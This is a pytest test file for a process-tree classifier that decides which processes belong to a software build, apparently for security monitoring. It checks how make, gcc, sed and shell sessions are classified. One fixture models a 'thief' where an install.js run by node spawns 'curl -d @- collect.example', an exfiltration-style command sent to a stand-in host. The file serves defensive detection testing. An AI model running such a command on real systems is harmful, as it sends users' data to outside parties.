from __future__ import annotations

import numpy as np
import pytest

from engine.knowledge.build_tree import hub_paths, in_build, is_build_tool
from tests.engine.process_samples import make_table


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/usr/bin/make", True),
        ("/usr/bin/x86_64-linux-gnu-gcc-12", True),
        ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", True),
        ("/usr/bin/clang-15", True),
        ("/home/u/conftest", True),
        ("/usr/bin/curl", False),
        ("/usr/bin/python3.11", False),
        ("c:/windows/microsoft.net/framework/csc.exe", False),
        ("make", False),
    ],
)
def test_tools_are_known_without_version_and_target(path, expected):
    assert is_build_tool(path) is expected


def test_what_a_configure_script_starts_is_a_build_and_its_neighbour_is_not():
    top = ("/usr/lib/systemd/systemd",)
    script, other = (*top, "/usr/bin/bash"), (*top, "/usr/bin/dash")
    corpus, table = make_table(
        [
            (top, -1, None),
            (script, 0, "bash ./configure"),
            ((*script, "/usr/bin/gcc"), 1, "gcc -c conftest.c"),
            ((*script, "/usr/bin/sed"), 1, "sed s,a,b,"),
            (other, 0, "dash"),
            ((*other, "/usr/bin/sed"), 4, "sed s,a,b,"),
        ]
    )
    found = in_build(corpus, table, hub_paths(corpus.paths))
    chains = [tuple(corpus.paths[i] for i in steps if i >= 0) for steps in corpus.steps]
    by_chain = dict(zip(chains, found.tolist(), strict=True))
    assert by_chain[(*script, "/usr/bin/sed")]
    assert by_chain[(*script, "/usr/bin/gcc")]
    assert not by_chain[script]  # the script itself stays as odd as it is
    assert not by_chain[(*other, "/usr/bin/sed")]
    assert not by_chain[top]
    assert (
        in_build(corpus, None, hub_paths(corpus.paths)).tolist()
        == np.array([any("gcc" in step for step in chain) for chain in by_chain]).tolist()
    )


TERMINAL = ("/usr/lib/systemd/systemd", "/usr/libexec/gnome-terminal-server")


def typed(shell: str | None, top: tuple[str, ...] = TERMINAL) -> tuple[bool, bool]:
    """A shell that started `make`, and node with curl beside it: whether the compiler and whether the thief are of a build."""
    below = (*top, "/usr/bin/bash")
    rows = [(top[: at + 1], at - 1, "x") for at in range(len(top))]
    at = len(rows)
    rows += [
        (below, at - 1, shell),
        ((*below, "/usr/bin/make"), at, "make"),
        ((*below, "/usr/bin/make", "/usr/bin/sed"), at + 1, "sed s,a,b,"),
        ((*below, "/usr/bin/node"), at, "node install.js"),
        ((*below, "/usr/bin/node", "/usr/bin/curl"), at + 3, "curl -d @- collect.example"),
    ]
    corpus, table = make_table(rows)
    found = in_build(corpus, table, hub_paths(corpus.paths))
    chains = [tuple(corpus.paths[i] for i in steps if i >= 0) for steps in corpus.steps]
    by_chain = dict(zip(chains, found.tolist(), strict=True))
    return by_chain[(*below, "/usr/bin/make", "/usr/bin/sed")], by_chain[(*below, "/usr/bin/node", "/usr/bin/curl")]


@pytest.mark.parametrize("shell", ["bash", "-bash", "/bin/bash -i", "bash --login", "bash -p", "bash --norc -i", None])
def test_who_types_make_once_has_not_made_a_build_of_what_he_types_all_day(shell):
    assert typed(shell) == (True, False)


@pytest.mark.parametrize("shell", ["bash ./configure", "sh -c 'make && node install.js'", "bash -e build.sh"])
def test_all_that_a_script_starts_beside_a_tool_is_its_build(shell):
    assert typed(shell) == (True, True)


@pytest.mark.parametrize(("above", "whole"), [("/usr/sbin/sshd", False), ("/usr/bin/dash", True)])
def test_without_command_lines_a_login_tells_a_session(above, whole):
    assert typed(None, ("/usr/lib/systemd/systemd", above)) == (True, whole)
